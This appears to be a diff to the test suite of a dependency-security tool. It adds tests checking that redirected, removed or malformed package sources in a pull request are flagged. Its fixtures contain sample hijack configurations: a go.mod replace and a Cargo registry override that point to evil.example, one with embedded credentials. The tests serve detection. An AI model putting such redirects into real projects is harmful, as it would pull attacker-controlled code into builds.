@@ -15,6 +15,7 @@ from tests.worlds import Answering, Sent, answer, no_network, world
 from sigstep.cli.main import sigstep
 from sigstep.errors import FormatError, ServiceError, UsageError
 from sigstep.flows.dependencies import DependencyRequest, examine_dependencies
+from sigstep.flows.dependency_merge import read_report
 from sigstep.model import limits
 from sigstep.model.dependency import DependencyReport, EvidenceState, Level
 from sigstep.model.trust import TrustMaterial
@@ -23,6 +24,7 @@ from sigstep.ports.http import Response
 from sigstep.rendering.dependencies import dependencies_annotations, dependencies_text
 from sigstep.rendering.dependency_json import dependencies_json
 from sigstep.rendering.dependency_markdown import dependencies_markdown
+from sigstep.rendering.dependency_sarif import dependencies_sarif
 
 INDEX, NPM = "https://index.example/simple", "https://npm.example"
 A, B = "aa" * 32, "bb" * 32
@@ -252,7 +254,7 @@ def test_configuration_of_a_pull_request(tmp_path: Path) -> None:
 
     report = examine(tmp_path, answering, base, head)
     assert [(one.rule, one.level, one.path) for one in report.notices] == [
-        ("source-changed", Level.FAIL, ".npmrc"),
+        ("source-redirected", Level.FAIL, ".npmrc"),
         ("signatures-not-judged", Level.NOTE, ""),
     ]
     assert asked == [f"{NPM}/a"]
@@ -290,3 +292,49 @@ def test_names_stay_inside_their_address(tmp_path: Path) -> None:
 
     examine(tmp_path, answering, {}, lock, registries={"npm": NPM})
     assert asked == [f"{NPM}/..%2fx%3Fy%23z"]
+
+
+def test_redirects_of_a_pull_request(tmp_path: Path) -> None:
+    """The lockfiles stay as they are: what is redirected, taken away, or made unreadable is told on its line."""
+    base = {
+        ".npmrc": "@acme:registry=https://corp.example/npm\n",
+        "go.mod": "module m\n",
+        "svc/Cargo.toml": "[package]\n",
+        "template/pyproject.toml": "{{ name }}\n",
+        "requirements.txt": "-i https://index.example/simple\n",
+    }
+    head = {
+        "go.mod": "module m\n\nreplace good.example/x => evil.example/x v1.0.0\n",
+        "svc/.cargo/config.toml": '[source.crates-io]\nreplace-with = "x"\n[source.x]\nregistry = "https://u:pass@evil.example"\n',
+        "svc/Cargo.toml": "[[[\n",
+        "template/pyproject.toml": "{{ name }} \n",
+    }  # fmt: skip
+    folder = tmp_path / "repository"
+    folder.mkdir()
+    report = examine(folder, no_network, base, head)
+    found = {(one.rule, one.path): one for one in report.notices}
+    assert [(*key, one.line, one.level.value) for key, one in sorted(found.items())] == [
+        ("lockfile-removed", "requirements.txt", 1, "warn"),
+        ("source-redirected", ".npmrc", 1, "fail"),
+        ("source-redirected", "go.mod", 3, "fail"),
+        ("source-redirected", "svc/.cargo/config.toml", 1, "fail"),
+        ("source-redirected", "svc/Cargo.toml", 1, "fail"),
+    ]
+    message = found["source-redirected", "svc/.cargo/config.toml"].message
+    assert "cargo source crates-io is set to https://evil.example" in message
+    assert "dependencies.registries" in message
+    assert report.exit_code == 1
+    assert "::error file=go.mod,line=3,title=source-redirected::" in dependencies_annotations(report)
+    assert "go.mod:3: golang replace" in dependencies_text(report)
+    results = json.loads(dependencies_sarif(report))["runs"][0]["results"]
+    places = [one["locations"][0]["physicalLocation"] for one in results]
+    assert ("go.mod", 3) in {(one["artifactLocation"]["uri"], one["region"]["startLine"]) for one in places}
+    assert read_report(dependencies_json(report).encode()).notices == report.notices
+
+
+def test_a_redirect_that_is_too_large(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """It is refused, like a lockfile, and not passed over."""
+    monkeypatch.setattr(limits, "LOCKFILE_BYTES", 30)
+    with pytest.raises(FormatError) as refused:
+        examine(tmp_path, no_network, {"a": ""}, {"a": "", ".npmrc": "#" * 31})
+    assert refused.value.code == "lockfile-malformed"
